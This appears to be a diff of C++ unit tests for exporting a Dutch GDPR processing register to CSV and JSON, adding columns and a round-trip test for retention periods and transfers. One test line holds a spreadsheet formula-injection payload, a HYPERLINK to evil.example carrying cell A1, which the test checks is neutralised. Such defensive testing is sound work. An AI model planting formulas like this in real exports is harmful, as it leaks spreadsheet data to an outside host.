@@ -145,7 +145,8 @@ TEST(Exporters, CsvIsTheVngLayoutWithFormulasNeutralised) {
             "Categorieën persoonsgegevens,Bijzondere persoonsgegevens,Ontvangers,Doorgifte derde land,"
             "Bewaartermijn,Beveiligingsmaatregelen,Verwerker,DPIA,Vindplaats DPIA,Waarborgen doorgifte,"
             "Gezamenlijk verwerkingsverantwoordelijken,Omschrijving,Eigenaar,Bron van de gegevens,Systemen,"
-            "Vindplaats belangenafweging,Opmerkingen");
+            "Vindplaats belangenafweging,Strafrechtelijke gegevens (grondslag),BSN (wettelijke grondslag),"
+            "Grootschalig,Opmerkingen");
   std::string row = csv.substr(eol + 2);
   EXPECT_TRUE(
       row.starts_with("crm,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","
@@ -350,6 +351,42 @@ const char* kVws =
   {"Nummer": "M12", "Naam": "Loket", "Verantwoordelijken": [{"Naam": "Ministerie van VWS"}],
    "Doelen": [{"Id": 7, "Doel": "Vragen beantwoorden", "Rechtsgrond": "Wettelijke verplichting"}]}
 ])";
+
+TEST(Exporters, VwsKeepsRetentionPeriodsAndEveryTransfersCountry) {
+  Register r = Hostile();
+  ProcessingActivity& a = r.activities[0];
+  a.name = "CRM";
+  a.notes.clear();
+  Retention rt;
+  rt.data_category = "*";
+  rt.period = "P1Y";
+  rt.justification = "klantrelatie";
+  a.retention = {rt};
+  Transfer us;
+  us.recipient = "Mailer Inc.";
+  us.country = "US";
+  us.safeguard = TransferSafeguard::kSccs;
+  Transfer gb = us;
+  gb.recipient = "Support Ltd";
+  gb.country = "GB";
+  a.transfers = {us, gb};
+  std::string out = Export("vws", r);
+  EXPECT_NE(out.find("\"Bewaartermijn\": \"P1Y (klantrelatie)\""), std::string::npos) << out;
+  EXPECT_NE(out.find("\"BuitenEuOmschrijving\": \"Mailer Inc. (US); Support Ltd (GB)\""), std::string::npos)
+      << out;
+  auto back = FindImporter("vws")->import(out, "vws.json", {});
+  ASSERT_TRUE(back.has_value()) << AllText(back.error());
+  const ProcessingActivity& b = back->reg.activities[0];
+  ASSERT_EQ(b.retention.size(), 1u);
+  EXPECT_EQ(b.retention[0].period, "P1Y");
+  EXPECT_EQ(b.retention[0].justification, "klantrelatie");
+  ASSERT_EQ(b.transfers.size(), 2u);
+  EXPECT_EQ(b.transfers[0].recipient, "Mailer Inc.");
+  EXPECT_EQ(b.transfers[0].country, "US");
+  EXPECT_EQ(b.transfers[0].safeguard, TransferSafeguard::kSccs);
+  EXPECT_EQ(b.transfers[1].recipient, "Support Ltd");
+  EXPECT_EQ(b.transfers[1].country, "GB");
+}
 
 TEST(Exporters, VwsRoundTripGivesTheSameRegister) {
   const Importer* vws = FindImporter("vws");
